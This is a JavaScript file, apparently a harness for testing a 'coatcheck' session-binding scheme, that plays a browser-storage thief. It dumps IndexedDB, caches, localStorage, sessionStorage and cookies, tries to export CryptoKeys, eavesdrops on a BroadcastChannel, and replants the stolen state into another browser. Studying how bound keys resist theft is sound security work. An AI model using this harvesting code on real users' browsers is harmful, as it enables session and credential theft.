// What a thief runs: what scripts can take out of a browser's storage, and how it is put into another one.

/** Take all that a script can. Keys come as what they would give of themselves, which is counted in `keys`. */
async function take() {
  const keys = [];
  const databases = [];
  for (const { name, version } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    const stores = [];
    for (const store of database.objectStoreNames) {
      const { keyPath, autoIncrement, indexNames } = database.transaction(store).objectStore(store);
      const at = () => database.transaction(store).objectStore(store);
      const [names, values] = [await done(at().getAllKeys()), await done(at().getAll())];
      const indexes = [...indexNames].map((index) => ({ index, keyPath: at().index(index).keyPath }));
      const rows = await Promise.all(names.map(async (each, i) => [each, await exported(values[i], keys)]));
      stores.push({ store, keyPath, autoIncrement, indexes, rows });
    }
    database.close();
    databases.push({ name, version, stores });
  }
  const cached = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      cached.push({ name, url: request.url, text: await (await cache.match(request)).text() });
    }
  }
  const texts = { localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie };
  return { databases, cached, ...texts, keys };
}

/** Listen to what tabs tell one another, and ask as they do. */
function listen(issuer) {
  globalThis.heard = [];
  globalThis.channel = new BroadcastChannel(`coatcheck ${issuer}`);
  channel.onmessage = ({ data }) => heard.push(data);
  for (const type of ["access?", "open?"]) channel.postMessage({ type });
}

/** Give what was heard, as far as it can be taken elsewhere. */
async function takeHeard() {
  const keys = [];
  return { heard: await Promise.all(heard.map((each) => exported(each, keys))), keys };
}

/** Put what was taken into this browser; keys that could not be taken are made anew. */
async function plant({ databases, cached, localStorage: local, sessionStorage: session, cookie }, keepsPublic) {
  for (const { name, version, stores } of databases) {
    const asked = indexedDB.open(name, version);
    asked.onupgradeneeded = () => {
      for (const { store, keyPath, autoIncrement, indexes } of stores) {
        const made = asked.result.createObjectStore(store, { keyPath, autoIncrement });
        for (const each of indexes) made.createIndex(each.index, each.keyPath);
      }
    };
    const database = await done(asked);
    for (const { store, keyPath, rows } of stores) {
      const pair = await crypto.subtle.generateKey({ name: "ECDSA", namedCurve: "P-256" }, false, ["sign", "verify"]);
      for (const [key, row] of rows) {
        const value = await planted(row, pair, keepsPublic);
        await done(database.transaction(store, "readwrite").objectStore(store).put(value, ...(keyPath ? [] : [key])));
      }
    }
    database.close();
  }
  for (const { name, url, text } of cached) await (await caches.open(name)).put(url, new Response(text));
  Object.assign(localStorage, local);
  Object.assign(sessionStorage, session);
  for (const each of cookie.split("; ")) document.cookie = each;
}

async function exported(value, keys) {
  if (value instanceof CryptoKey) return exportedKey(value, keys);
  if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
    const bytes = new Uint8Array(value.buffer ?? value);
    return { kind: value.constructor.name, base64: btoa(String.fromCharCode(...bytes)) };
  }
  if (Array.isArray(value)) return Promise.all(value.map((each) => exported(each, keys)));
  if (value === null || typeof value !== "object") return value;
  const entries = Object.entries(value).map(async ([name, each]) => [name, await exported(each, keys)]);
  return Object.fromEntries(await Promise.all(entries));
}

async function exportedKey(key, keys) {
  const gave = {};
  for (const format of ["raw", "jwk", "pkcs8", "spki"]) {
    const given = await crypto.subtle.exportKey(format, key).catch(() => null);
    if (given) gave[format] = await exported(given, keys);
  }
  const wrapping = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, true, ["wrapKey"]);
  const how = { name: "AES-GCM", iv: new Uint8Array(12) };
  const isWrapped = await crypto.subtle.wrapKey("jwk", key, wrapping, how).then(() => true, () => false);
  keys.push({ type: key.type, algorithm: key.algorithm.name, gave: Object.keys(gave), isWrapped });
  return { kind: "CryptoKey", type: key.type, jwk: gave.jwk ?? null };
}

async function planted(value, pair, keepsPublic) {
  if (value?.kind === "CryptoKey") {
    if (value.type === "secret") {
      return crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, false, ["encrypt", "decrypt"]);
    }
    if (value.type === "private") return pair.privateKey;
    if (!keepsPublic) return pair.publicKey;
    return crypto.subtle.importKey("jwk", value.jwk, { name: "ECDSA", namedCurve: "P-256" }, true, ["verify"]);
  }
  if (value?.base64) {
    const bytes = Uint8Array.from(atob(value.base64), (each) => each.charCodeAt(0));
    return value.kind === "ArrayBuffer" ? bytes.buffer : bytes;
  }
  if (Array.isArray(value)) return Promise.all(value.map((each) => planted(each, pair, keepsPublic)));
  if (value === null || typeof value !== "object") return value;
  const entries = Object.entries(value).map(async ([name, each]) => [name, await planted(each, pair, keepsPublic)]);
  return Object.fromEntries(await Promise.all(entries));
}

function done(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}
